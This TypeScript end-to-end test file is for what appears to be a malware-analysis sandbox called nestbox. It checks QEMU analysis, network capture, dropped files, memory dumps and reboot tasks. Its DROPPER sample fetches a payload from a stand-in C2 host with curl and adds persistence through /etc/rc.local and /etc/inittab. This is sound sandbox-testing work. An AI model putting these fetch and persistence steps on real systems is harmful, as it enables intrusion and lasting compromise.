import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { form, startTestServer, type TestServer } from '../helpers/server.js';

import { COLLECT_GRACE_S } from '../helpers/qemu-timing.js';

/**
 * Issue 5 end to end: one real nestbox service with a linux machine and a QEMU machine side by side
 * (TCG here, restored from the cached ready state of nestbox's guest image; its first build takes
 * minutes), driven only through the HTTP API: analysis on QEMU, the next task's clean machine, the
 * choice of machine by name and tags, and reboot tasks that cold-boot the state the original left.
 * Traffic goes only to loopback and the task networks nestbox makes.
 */
const QEMU_SETTINGS = { memory_mb: 256, run_dir: '/run/nestbox/qemu-e2e', collect_grace: COLLECT_GRACE_S, screenshot_interval: 0.5 };

/** Writes files, starts children, resolves a name, fetches a URL, leaves a process running, and persists. */
const DROPPER = `#!/bin/sh
echo "stolen data" > /tmp/dropped.txt
mkdir -p /tmp/stage
sh -c 'echo from-child > /tmp/stage/child.txt'
curl -s -m 10 -o /tmp/stage/payload http://malware-c2.example/payload.bin && echo "fetched payload"
echo first-run > /root/state.txt
printf '#!/bin/sh\\n{ cat /root/state.txt; cat /var/tmp/inittab-ran; } > /var/tmp/seen-at-boot\\n' > /etc/rc.local
chmod +x /etc/rc.local
echo '::once:/bin/sh -c "echo init-ran > /var/tmp/inittab-ran"' >> /etc/inittab
# Outlives the sample: its memory is dumped at the end, then the machine is stopped.
sleep 600 &
echo "dropper done"
`;

const LOOKER = `#!/bin/sh
for path in /tmp/dropped.txt /root/state.txt /etc/rc.local /var/tmp/seen-at-boot; do
  test -e "$path" && echo "FOUND $path" || echo "absent $path"
done
grep -q inittab-ran /etc/inittab && echo "FOUND inittab entry" || echo "absent inittab entry"
ps -eo comm | grep -qx sleep && echo "FOUND sleeper" || echo "absent sleeper"
`;

interface TaskView {
  id: number;
  status: string;
  errors: string[];
  guest: { name?: string; manager?: string };
}

interface MachineView {
  name: string;
  locked: boolean;
  platform: string;
  tags: string[];
}

describe('end to end with a QEMU machine beside a linux machine', { timeout: 40 * 60_000 }, () => {
  let server: TestServer;
  const scratch = mkdtempSync(join(tmpdir(), 'nestbox-e2e-qemu-'));
  let dropperTask = 0;
  let lookerTask = 0;

  before(async () => {
    server = await startTestServer(
      {
        machines: [
          { name: 'linux1', kind: 'linux', tags: ['container'] },
          { name: 'qemu1', kind: 'qemu', tags: ['vm'], settings: QEMU_SETTINGS },
        ],
        // Reboot tasks take the default timeout; they end sooner, when what the boot started has exited.
        tasks: { default_timeout: 60 },
      },
      { engine: true, pollMs: 200 },
    );
  });

  after(async () => {
    await server?.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  async function submit(name: string, script: string, fields: Record<string, string>): Promise<number> {
    const { status, body } = await server.json<{ task_id: number }>('/tasks/create/file', {
      method: 'POST',
      body: form({ timeout: '30', ...fields }, [['file', name, script]]),
    });
    assert.equal(status, 200, JSON.stringify(body));
    return body.task_id;
  }

  async function view(id: number): Promise<TaskView> {
    return (await server.json<{ task: TaskView }>(`/tasks/view/${id}`)).body.task;
  }

  /** The task once reported; its first QEMU task may wait for the image and its ready state to be made. */
  async function reported(id: number, timeoutMs = 25 * 60_000): Promise<TaskView> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const task = await view(id);
      if (['reported', 'failed_analysis', 'failed_processing'].includes(task.status)) {
        assert.equal(task.status, 'reported', `task ${id}: ${task.errors.join('; ')}`);
        return task;
      }
      if (Date.now() > deadline) throw new Error(`task ${id} still ${task.status}`);
      await sleep(500);
    }
  }

  async function machines(): Promise<Map<string, MachineView>> {
    const { body } = await server.json<{ machines: MachineView[] }>('/machines/list');
    return new Map(body.machines.map((machine) => [machine.name, machine]));
  }

  async function download(path: string, name: string): Promise<string> {
    const response = await server.fetch(path);
    assert.equal(response.status, 200, `${path} answered ${response.status}`);
    const file = join(scratch, name);
    writeFileSync(file, Buffer.from(await response.arrayBuffer()));
    return file;
  }

  const analysisLog = (id: number) => readFileSync(join(server.ctx.layout.analysis(id).dir, 'analysis.log'), 'utf8');

  it('lists both machines, and shows the QEMU one locked while it runs a task', async () => {
    const before = await machines();
    assert.deepEqual([...before.keys()].sort(), ['linux1', 'qemu1']);
    assert.deepEqual(before.get('qemu1')?.tags, ['vm']);
    assert.ok(![...before.values()].some((machine) => machine.locked));
    dropperTask = await submit('dropper.sh', DROPPER, { machine: 'qemu1', memory: '1', timeout: '25' });
    let seenLocked = false;
    while (!seenLocked && ['pending', 'running'].includes((await view(dropperTask)).status)) {
      const now = await machines();
      seenLocked = now.get('qemu1')?.locked === true && now.get('linux1')?.locked === false;
      await sleep(300);
    }
    assert.ok(seenLocked, 'qemu1 was locked by the task while linux1 stayed free');
  });

  it('analyses a dropper on QEMU: behaviour, capture, dropped files, screenshots and memory through the API', async () => {
    const task = await reported(dropperTask);
    assert.equal(task.guest.name, 'qemu1');
    assert.equal(task.guest.manager, 'QEMU');
    assert.match(analysisLog(dropperTask), /fetched payload/);

    const { body: report } = await server.json<any>(`/tasks/report/${dropperTask}`);
    const names: string[] = report.behavior.processes.map((process: { process_name: string }) => process.process_name);
    for (const name of ['bash', 'sh', 'curl']) assert.ok(names.includes(name), `${name} in ${names.join(',')}`);
    // The shell package runs the script with bash, on this kind as on a linux machine.
    assert.ok(report.behavior.processes.some((process: { command_line: string }) => process.command_line === '/bin/bash /tmp/dropper.sh'));
    const summary = JSON.stringify(report.behavior.summary);
    assert.ok(summary.includes('/tmp/dropped.txt') && summary.includes('/etc/rc.local'), 'the file writes are in the summary');
    assert.ok(report.network.dns.some((query: { request: string }) => query.request === 'malware-c2.example'));
    assert.ok(report.network.http.some((request: { uri: string }) => request.uri.includes('/payload.bin')));
    assert.ok(Array.isArray(report.dropped), `no dropped files in the report: ${JSON.stringify(report.debug?.errors)}\n${analysisLog(dropperTask)}`);
    const dropped: string[] = report.dropped.map((file: { filepath: string }) => file.filepath);
    for (const path of ['/tmp/dropped.txt', '/tmp/stage/child.txt', '/tmp/stage/payload', '/etc/rc.local']) assert.ok(dropped.includes(path), `${path} dropped`);

    const pcap = await download(`/pcap/get/${dropperTask}`, 'dump.pcap');
    const fields = ['-T', 'fields', '-e', 'dns.qry.name', '-e', 'http.request.uri'];
    const captured = execFileSync('tshark', ['-r', pcap, '-Y', 'dns || http.request', ...fields], { encoding: 'utf8' });
    assert.match(captured, /malware-c2\.example/);
    assert.match(captured, /\/payload\.bin/);

    const droppedTar = await download(`/tasks/report/${dropperTask}/dropped`, 'dropped.tar');
    const members = execFileSync('tar', ['-tf', droppedTar], { encoding: 'utf8' });
    assert.match(members, /_dropped\.txt$/m, members);

    const shot = await server.fetch(`/tasks/screenshots/${dropperTask}/0001`);
    assert.equal(shot.status, 200);
    assert.deepEqual(Buffer.from(await shot.arrayBuffer()).subarray(0, 2), Buffer.from([0xff, 0xd8]), 'a JPEG screenshot');

    const { status, body: dumps } = await server.json<{ dump_files: string[] }>(`/memory/list/${dropperTask}`);
    assert.equal(status, 200, 'the left-behind process was dumped');
    const dump = await server.fetch(`/memory/get/${dropperTask}/${dumps.dump_files[0]}`);
    assert.equal(dump.status, 200);
    assert.ok((await dump.arrayBuffer()).byteLength > 24);
    const full = readFileSync(server.ctx.layout.analysis(dropperTask).memoryDump).subarray(0, 4);
    assert.equal(full.toString('latin1'), '\x7fELF', 'memory.dmp is an ELF core of the whole guest');
  });

  it('runs the next task on a clean QEMU machine chosen by its tag, and a linux-tagged task on the linux machine', async () => {
    lookerTask = await submit('looker.sh', LOOKER, { tags: 'vm' });
    const linuxTask = await submit('hello.sh', '#!/bin/sh\necho "hello from the namespaces"\n', { tags: 'container' });
    const [qemuRun, linuxRun] = [await reported(lookerTask), await reported(linuxTask)];
    assert.equal(qemuRun.guest.name, 'qemu1');
    assert.equal(linuxRun.guest.name, 'linux1');
    assert.equal(linuxRun.guest.manager, 'Linux');
    const seen = analysisLog(lookerTask);
    assert.doesNotMatch(seen, /FOUND/, seen);
    for (const what of ['/tmp/dropped.txt', '/root/state.txt', '/etc/rc.local', 'inittab entry', 'sleeper']) assert.match(seen, new RegExp(`absent ${what}`));
  });

  it('cold-boots a reboot task from the state the original left: its files are there and its persistence runs', async () => {
    const { status, body } = await server.json<{ reboot_id: number }>(`/tasks/reboot/${dropperTask}`);
    assert.equal(status, 200);
    const task = await reported(body.reboot_id);
    assert.equal(task.guest.name, 'qemu1', 'the reboot runs on the machine the original ran on');
    assert.deepEqual(task.errors, []);
    const taskLog = readFileSync(server.ctx.layout.analysis(body.reboot_id).taskLog, 'utf8');
    assert.match(taskLog, /booted from the original task's end state/);

    const { body: report } = await server.json<any>(`/tasks/report/${body.reboot_id}`);
    const names: string[] = report.behavior.processes.map((process: { process_name: string }) => process.process_name);
    assert.ok(names.includes('rc.local'), `the persisted rc.local ran, traced: ${names.join(',')}`);
    const seenAtBoot = report.dropped.find((file: { filepath: string }) => file.filepath === '/var/tmp/seen-at-boot');
    assert.ok(seenAtBoot, 'what it wrote is a dropped file');
    // The original's file survived, and the inittab entry it added ran during the real boot.
    assert.equal(readFileSync(seenAtBoot.path, 'utf8'), 'first-run\ninit-ran\n');
    const commandLines: string[] = report.behavior.processes.map((process: { command_line: string }) => process.command_line);
    assert.ok(!commandLines.some((line) => line.includes('dropper.sh')), 'the sample itself is not run again');
  });

  it('starts a reboot task clean, and says so, when the original kept no end state', async () => {
    rmSync(join(server.ctx.layout.analysis(lookerTask).dir, 'reboot'), { recursive: true, force: true });
    const { body } = await server.json<{ reboot_id: number }>(`/tasks/reboot/${lookerTask}`);
    const task = await reported(body.reboot_id);
    assert.equal(task.guest.name, 'qemu1');
    assert.ok(task.errors.some((error) => /kept no end state: the reboot starts from a clean machine/.test(error)), task.errors.join('; '));
    const { body: report } = await server.json<any>(`/tasks/report/${body.reboot_id}`);
    assert.ok(!(report.dropped ?? []).some((file: { filepath: string }) => file.filepath === '/var/tmp/seen-at-boot'));
    assert.ok(
      report.behavior.processes.some((process: { command_line: string }) => process.command_line.startsWith('/bin/sh -c') && process.command_line.includes('@reboot')),
      'the boot replay ran',
    );
    assert.ok(existsSync(join(server.ctx.layout.analysis(body.reboot_id).dir, 'reboot', 'disk.qcow2')), 'the reboot task keeps its own end state');
  });
});
